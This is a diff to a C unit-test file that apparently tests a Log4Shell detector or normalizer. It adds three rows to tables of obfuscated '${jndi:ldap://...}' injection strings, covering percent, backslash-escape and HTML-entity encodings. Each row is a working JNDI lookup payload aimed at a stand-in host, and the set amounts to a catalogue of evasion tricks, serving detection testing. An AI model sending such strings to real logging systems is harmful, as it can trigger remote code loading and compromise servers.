@@ -21,6 +21,7 @@ static void percent(void **state)
         ROW("%24{jndi:ldap://h.example/a}", EXPLOIT, .chain = "percent"),
         ROW("${jndi:ldap://h.example/a%7D", EXPLOIT, .chain = "percent"),
         ROW("${jndi%3Aldap%3A%2F%2Fh.example%2Fa}", EXPLOIT, .chain = "percent"),
+        ROW("${jndi:ldap://h%2eexample/a}", "exploit", .normal = "${jndi:ldap://h.example/a}", .chain = "percent"),
         ROW("${%6a%6e%64%69:ldap://h.example/a}", EXPLOIT, .chain = "percent"),
         ROW("%24%7B%6A%6E%64%69%3A%6C%64%61%70%3A%2F%2F%68%2E%65%78%61%6D%70%6C%65%2F%61%7D", EXPLOIT, .chain = "percent"),
         ROW("%2524%257Bjndi:ldap://h.example/a%257D", EXPLOIT, .chain = "percent percent"),
@@ -51,6 +52,7 @@ static void backslash(void **state)
         ROW("\\u0024\\u007bjndi:ldap://h.example/a\\u007d", EXPLOIT, .chain = "backslash"),
         ROW("${\\u006a\\u006e\\u0064\\u0069:ldap://h.example/a}", EXPLOIT, .chain = "backslash"),
         ROW("${jndi:ldap:\\/\\/h.example\\/a}", EXPLOIT, .chain = "backslash"),
+        ROW("${jndi:ldap://h\\u002eexample/a}", "exploit", .normal = "${jndi:ldap://h.example/a}", .chain = "backslash"),
         ROW("\\u{24}{jndi:ldap://h.example/a}", EXPLOIT, .chain = "backslash"),
         ROW("\\44{jndi:ldap://h.example/a}", EXPLOIT, .chain = "backslash"),
         ROW("\\044\\173jndi:ldap://h.example/a\\175", EXPLOIT, .chain = "backslash"),
@@ -80,6 +82,7 @@ static void html(void **state)
         ROW("&amp;amp;dollar;{jndi:ldap://h.example/a}", EXPLOIT, .chain = "html html html"),
         ROW("&#38;#36;{jndi:ldap://h.example/a}", EXPLOIT, .chain = "html html"),
         ROW("${jnd${upper:&imath;}:ldap://h.example/a}", "exploit", .indicators = H, .chain = "html", .fires = FIRES_2_13),
+        ROW("${jndi:ldap://h&period;example/a}", "exploit", .normal = "${jndi:ldap://h.example/a}", .chain = "html"),
         ROW("<a title='&#36;{jndi:ldap://h.example/a}'>", EXPLOIT, .chain = "html"),
     };
     (void)state;
